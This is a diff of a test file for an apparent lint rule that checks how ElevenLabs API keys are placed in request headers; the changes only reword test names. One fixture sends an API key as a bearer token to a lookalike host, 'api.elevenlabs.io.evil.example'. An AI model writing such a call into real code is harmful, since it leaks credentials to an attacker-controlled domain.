@@ -4,27 +4,27 @@ const api = 'https://api.elevenlabs.io/v1/text-to-speech/voice';
 
 const caught: Example[] = [
   {
-    name: 'fetch with a template around an environment read',
+    name: 'fetch with a template around an environment variable',
     source: `fetch('${api}', { headers: { Authorization: \`Bearer \${process.env.ELEVENLABS_API_KEY}\` } });`,
     reports: [['destination', 'error', 'Authorization']],
     fixed: `fetch('${api}', { headers: { 'xi-api-key': process.env.ELEVENLABS_API_KEY?.trim() ?? '' } });`,
   },
   {
-    name: 'the same in JavaScript needs no string type',
+    name: 'the same in JavaScript, without a string type',
     file: 'example.js',
     source: `fetch('${api}', { headers: { 'Authorization': \`Bearer \${process.env.ELEVENLABS_API_KEY}\` } });`,
     reports: [['destination', 'error', `'Authorization'`]],
     fixed: `fetch('${api}', { headers: { 'xi-api-key': process.env.ELEVENLABS_API_KEY?.trim() } });`,
   },
   {
-    name: 'concatenation, and the quotes of the file',
+    name: "concatenation, with the file's quotes",
     file: 'example.mjs',
     source: `fetch("${api}", { headers: { "authorization": "Bearer " + apiKey } });`,
     reports: [['destination', 'error', `"authorization"`]],
     fixed: `fetch("${api}", { headers: { "xi-api-key": apiKey } });`,
   },
   {
-    name: 'comments and formatting stay as they are',
+    name: 'comments and formatting stay the same',
     source: `
 await fetch(\`${api}/\${voiceId}\`, {
   method: 'POST',
@@ -91,7 +91,7 @@ fetch('${api}', { headers: { 'xi-api-key': apiKey ?? '' } });
 `,
   },
   {
-    name: 'axios.post with the configuration third',
+    name: 'axios.post with the configuration as third argument',
     source: `
 import axios from 'axios';
 await axios.post('${api}', { text }, { headers: { Authorization: \`Bearer \${process.env['ELEVENLABS_API_KEY']}\` } });
@@ -110,7 +110,7 @@ await axios.post('${api}', { text }, { headers: { 'xi-api-key': process.env['ELE
     fixed: `axios({ method: 'get', url: '${api}', headers: { 'xi-api-key': key } });`,
   },
   {
-    name: 'redaxios, which is called as axios is',
+    name: 'redaxios, called like axios',
     file: 'example.js',
     source: `
 import axios from 'redaxios';
@@ -153,7 +153,7 @@ fetch('${api}', { headers: { 'xi-api-key': apiKey } });
 `,
   },
   {
-    name: 'beside a right xi-api-key it can go',
+    name: 'next to a correct xi-api-key it is removed',
     source: `
 fetch('${api}', {
   headers: {
@@ -172,14 +172,14 @@ fetch('${api}', {
 `,
   },
   {
-    name: 'beside one in other capitals it must not be renamed to a second one',
+    name: 'next to one in other capitals it must not become a duplicate',
     file: 'example.js',
     source: `fetch('${api}', { headers: { Authorization: 'Bearer ' + elevenLabsKey, 'XI-API-KEY': elevenLabsKey } });`,
     reports: [['redundant', 'warning', 'Authorization']],
     fixed: `fetch('${api}', { headers: { 'XI-API-KEY': elevenLabsKey } });`,
   },
   {
-    name: 'an unknown destination, but unmistakably the key: one step milder, and no automatic fix',
+    name: 'an unknown destination, but clearly the key: one level milder, and no automatic fix',
     source: `fetch(url, { headers: { Authorization: \`Bearer \${process.env.ELEVENLABS_API_KEY}\` } });`,
     reports: [['payload', 'warning', 'Authorization']],
     fixed: `fetch(url, { headers: { "xi-api-key": process.env.ELEVENLABS_API_KEY?.trim() ?? '' } });`,
@@ -211,7 +211,7 @@ fetch('${api}', { headers: headersFor(process.env.ELEVENLABS_API_KEY) });
 `,
   },
   {
-    name: 'a token of unknown kind is reported, and its fix is offered only',
+    name: 'a token of an unknown kind is reported, with a suggestion only',
     file: 'example.js',
     source: `fetch('${api}', { headers: { Authorization: \`Bearer \${token}\` } });`,
     reports: [['destination', 'error', 'Authorization']],
@@ -225,7 +225,7 @@ fetch('${api}', { headers: headersFor(process.env.ELEVENLABS_API_KEY) });
     ['a pattern', `{ apiKey }: { apiKey: number | string }`, 'apiKey'],
   ].map(
     ([place, parameter, key]): Example => ({
-      name: `no fix for a key in ${place} that is declared as something else than a string`,
+      name: `no fix for a key in ${place} that is declared as another type`,
       source: `export function a(${parameter}) { return fetch('${api}', { headers: { Authorization: \`Bearer \${${key}}\` } }); }`,
       reports: [['destination', 'error', 'Authorization']],
     }),
@@ -263,7 +263,7 @@ class Speech {
 
 const clients: Example[] = [
   {
-    name: 'an own wrapper around fetch that gets a URL and headers',
+    name: 'a custom wrapper around fetch that takes a URL and headers',
     file: 'example.js',
     source: `fetchWithRetry('${api}', { headers: { Authorization: \`Bearer \${apiKey}\` } }, 3);`,
     reports: [['destination', 'error', 'Authorization']],
@@ -313,7 +313,7 @@ fetch('${api}', { headers: [['xi-api-key', apiKey], ['Accept', 'audio/mpeg']] })
     fixed: `fetch(new Request('${api}', { headers: { 'xi-api-key': apiKey } }));`,
   },
   {
-    name: 'assignment to a header object after it was made',
+    name: 'assignment to a header object after its creation',
     file: 'example.js',
     source: `
 const headers = { Accept: 'audio/mpeg' };
@@ -490,7 +490,7 @@ class Speech {
 `,
   },
   {
-    name: 'a proxy that sets the header on the way',
+    name: 'a proxy that adds the header',
     file: 'example.js',
     source: `
 export default {
@@ -527,7 +527,7 @@ export default {
 `,
   },
   {
-    name: 'Object.assign, and a base of headers that is spread',
+    name: 'Object.assign, and spread base headers',
     file: 'example.js',
     source: `
 const base = { Authorization: 'Bearer ' + apiKey };
@@ -540,7 +540,7 @@ fetch('${api}', { headers: Object.assign({ Accept: 'audio/mpeg' }, base) });
 `,
   },
   {
-    name: 'a host with the region put in, and new URL with a base',
+    name: 'a host with the region inserted, and new URL with a base',
     file: 'example.js',
     source: `
 fetch(\`https://api.\${region}.elevenlabs.io/v1/voices\`, { headers: { Authorization: 'Bearer ' + apiKey } });
@@ -578,7 +578,7 @@ fetch('${api}', { headers });
     safe: false,
   },
   {
-    name: 'other code that reads the header by its name',
+    name: 'other code that reads the header by name',
     file: 'example.js',
     source: `
 const headers = { Authorization: 'Bearer ' + apiKey };
@@ -601,11 +601,11 @@ const silent: Example[] = [
     source: `fetch('${api}', { headers: { 'xi-api-key': process.env.ELEVENLABS_API_KEY?.trim() ?? '' } });`,
   },
   {
-    name: 'a Supabase function whose route says elevenlabs',
+    name: 'a Supabase function with elevenlabs in its route',
     source: `fetch(\`\${SUPABASE_URL}/functions/v1/elevenlabs-tts\`, { headers: { Authorization: \`Bearer \${SUPABASE_ANON_KEY}\` } });`,
   },
   {
-    name: 'the own backend, whatever the key is called',
+    name: 'your own backend, whatever the key is called',
     source: `fetch('/api/elevenlabs/speech', { headers: { Authorization: \`Bearer \${process.env.ELEVENLABS_API_KEY}\` } });`,
   },
   {
@@ -613,11 +613,11 @@ const silent: Example[] = [
     source: `fetch('https://api.reseller.dev/v1/elevenlabs', { headers: { Authorization: \`Bearer \${ELEVENLABS_API_KEY}\` } });`,
   },
   {
-    name: 'a host that only holds the right one',
+    name: 'a host that only contains the right one',
     source: `fetch('https://api.elevenlabs.io.evil.example/v1', { headers: { Authorization: \`Bearer \${apiKey}\` } });`,
   },
   {
-    name: 'an OpenAI call beside an ElevenLabs one',
+    name: 'an OpenAI call next to an ElevenLabs one',
     source: `
 fetch('https://api.openai.com/v1/chat', { headers: { Authorization: \`Bearer \${process.env.OPENAI_API_KEY}\` } });
 fetch('${api}', { headers: { 'xi-api-key': key } });
@@ -632,7 +632,7 @@ fetch('${api}', { headers: { 'xi-api-key': key } });
     source: `fetch('https://api.elevenlabs.io/v1/mcp', { headers: { Authorization: \`Bearer \${token}\` } });`,
   },
   {
-    name: 'an inbound header that is read',
+    name: 'a read of an inbound header',
     source: `
 const auth = request.headers.get('authorization');
 if (auth !== \`Bearer \${process.env.ELEVENLABS_AGENT_SECRET}\`) throw new Error('no');
@@ -668,7 +668,7 @@ fetch('${api}', {
     source: `expect(fetch).toHaveBeenCalledWith(url, { headers: { Authorization: \`Bearer \${process.env.ELEVENLABS_API_KEY}\` } });`,
   },
   {
-    name: 'text that shows a request',
+    name: 'a string that shows a request',
     source: `console.log("curl -H 'Authorization: Bearer $ELEVENLABS_API_KEY' https://api.elevenlabs.io/v1/voices");`,
   },
   {
@@ -683,11 +683,11 @@ fetch(provider === 'elevenlabs' ? '${api}' : 'https://api.openai.com/v1/audio/sp
     source: `const headers = { Authorization: \`Bearer \${process.env.ELEVENLABS_WEBHOOK_SECRET}\` };`,
   },
   {
-    name: 'a response header of the own server',
+    name: 'a response header of your own server',
     source: `res.setHeader('Authorization', \`Bearer \${process.env.ELEVENLABS_API_KEY}\`);`,
   },
   {
-    name: 'a proxy to the own backend',
+    name: 'a proxy to your own backend',
     source: `const proxy = { target: 'https://backend.example.com', onProxyReq: (proxyReq) => proxyReq.setHeader('Authorization', \`Bearer \${process.env.ELEVENLABS_API_KEY}\`) };`,
   },
   {
